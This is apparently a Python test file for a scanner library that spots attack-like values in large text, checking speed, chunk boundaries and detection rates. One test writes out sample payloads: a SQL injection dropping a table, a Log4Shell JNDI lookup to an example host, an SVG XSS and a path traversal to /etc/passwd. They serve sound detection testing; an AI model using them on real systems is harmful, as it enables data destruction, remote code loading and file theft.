"""What stands out in much text is found wherever it stands, and by nothing else."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambdaguard.lexers import bulk_marks
from lambdaguard.lexers.bulk_places import spans
from lambdaguard.lexers.bulk_spots import spots
from lambdaguard.lexers.bulk_values import holders

DATA = Path(__file__).parent.parent / "data"
ALPHABET = "'\";|&`$(){}<>=-/\\.:%#@*_!~ \n\raorunis15AZ\x00\x1eé"


def slowly(data, values):
    """The definition: every shape tried at every place."""
    shapes = [*bulk_marks._of_prose(), *(bulk_marks._of_values() if values else ())]
    whole = [[set(each + each.upper()) for each in shape] for shape in shapes]
    whole += [[set(each) for each in shape] for shape in (bulk_marks._encoded() if values else ())]
    return [
        at
        for at in range(len(data) - 3)
        if any(all(data[at + step] in fitting for step, fitting in enumerate(shape)) for shape in whole)
    ]


@pytest.mark.parametrize("values", [True, False])
@given(text=st.text(alphabet=ALPHABET, max_size=80))
def test_every_place_is_found(values, text):
    data = text.encode("latin-1") + b"    "
    assert list(spots(data, values)) == slowly(data, values)


@pytest.mark.parametrize("at", range(32_760, 32_776))
def test_where_two_chunks_meet(at):
    data = b"a" * at + b"x${y}" + b"a" * 40_000 + b"    "
    assert at + 1 in list(spots(data, values=False))


def test_eight_shapes_are_what_a_byte_holds():
    assert len(bulk_marks._of_prose()) <= 8
    assert len(bulk_marks._of_values()) + len(bulk_marks._encoded()) <= 8


def payloads(kind):
    lines = [line for file in DATA.glob(f"{kind}_*.jsonl") for line in file.read_text(encoding="utf-8").split("\n") if line]
    return list(dict.fromkeys(json.loads(line)["payload"] for line in lines))


def test_a_value_that_attacks_stands_out():
    attacks = payloads("attacks")
    assert len(attacks) > 800
    assert len(holders(attacks[:200])) >= 190
    assert sum(bool(holders([attack])) for attack in attacks) / len(attacks) > 0.99


@pytest.mark.parametrize(
    "attack", ["x'; drop table staff--", "${jndi:ldap://a.example/x}", "<svg onload=alert(1)>", "../../etc/passwd"]
)
@pytest.mark.parametrize("filler", ["naïve words, ", "слова и слова, ", "文字、", "İ words "])
def test_places_are_characters(attack, filler):
    text = filler * 3_000 + attack + filler * 3_000
    begins = len(filler) * 3_000
    assert any(start <= begins and begins + len(attack) <= end for start, end in spans(text))
